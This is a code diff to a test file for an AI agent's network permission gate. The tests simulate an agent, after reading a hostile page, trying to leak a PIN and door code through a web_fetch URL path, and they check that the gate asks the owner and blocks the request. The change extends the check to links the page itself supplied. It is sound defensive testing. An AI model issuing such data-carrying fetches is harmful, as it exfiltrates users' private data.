@@ -39,8 +39,8 @@ let d: Daemon;
 let home: string;
 
 /** What each lasting choice covers, as a connection question's last lines say: the exact call, then the wider choices. */
-const scopes = (exact: string, host: string) =>
-  [`Allow for 30 min / Always cover: ${exact} → ${host}:${port}, in this chat`, `Any command, 30 min covers: any command or fetch → ${host}:${port}, in this chat`, `Whole host, 30 min covers: any command or fetch → ${host}, any port, in this chat`].join("\n");
+const scopes = (exact: string, host: string, p = port) =>
+  [`Allow for 30 min / Always cover: ${exact} → ${host}:${p}, in this chat`, `Any command, 30 min covers: any command or fetch → ${host}:${p}, in this chat`, `Whole host, 30 min covers: any command or fetch → ${host}, any port, in this chat`].join("\n");
 const questions = (): BotMessage[] => emu.botMessages(OWNER).filter((m) => m.keyboard !== undefined);
 const owner = () => emu.user({ userId: OWNER, firstName: "Ann" });
 
@@ -160,7 +160,7 @@ describe.skipIf(!probe.ok)("the egress wall after a hostile page (nobody presses
     expect(fake.requests.map((r) => r.rawBody).join("")).not.toContain("thanks");
   });
 
-  it("a web_fetch of a URL the page did not give (data in its path) is asked about per host and reaches nothing; a link the page gave is fetched unasked", async () => {
+  it("a web_fetch of a URL the page did not give (data in its path) is asked about per host and reaches nothing; in the owner's chat a link the page gave is asked about too", async () => {
     const asked = questions().length;
     const leak = `http://127.0.0.1:${port}/my/pin/is/3390/and/door/code/is/7781`;
     fake.enqueue(toolCall("web_fetch", { url: leak }), text("fetch done"));
@@ -171,13 +171,16 @@ describe.skipIf(!probe.ok)("the egress wall after a hostile page (nobody presses
     ]);
     expect(lastToolResult()).toBe(`Refused: the owner did not allow 127.0.0.1 within 1 s.`);
     expect(received).toEqual([]);
-    // The page gave this link: fetched without a question (an unchanged link carries nothing of the workspace).
+    // The page gave this link: asked too. Which links a run follows can spell out what it holds,
+    // and the owner's chat holds MEMORY.md.
     const link = `${web.url}/more`;
     fake.enqueue(toolCall("web_fetch", { url: link }), text("link done"));
     await owner().send("go on (link)");
     await waitFor("link done", () => emu.botMessages(OWNER).some((m) => m.text === "link done"));
-    expect(questions().length).toBe(asked + 1);
-    expect(web.hits.filter((h) => h === "/more")).toEqual(["/more"]);
+    expect(questions().slice(asked + 1).map((q) => q.text)).toEqual([
+      `🌐 Allow a connection?\nweb_fetch ${link}\nto: 127.0.0.1, port ${web.port}\nchat: telegram:${OWNER}\nwhy: earlier in this conversation it read a web page, still in its context (/new clears it)\n${scopes(`web_fetch ${link}`, "127.0.0.1", web.port)}\n\n⌛ Not answered within 1 s: not connected.`,
+    ]);
+    expect(web.hits.filter((h) => h === "/more")).toEqual([]);
   });
 
   it("a written script that connects is asked about and delivers nothing", async () => {
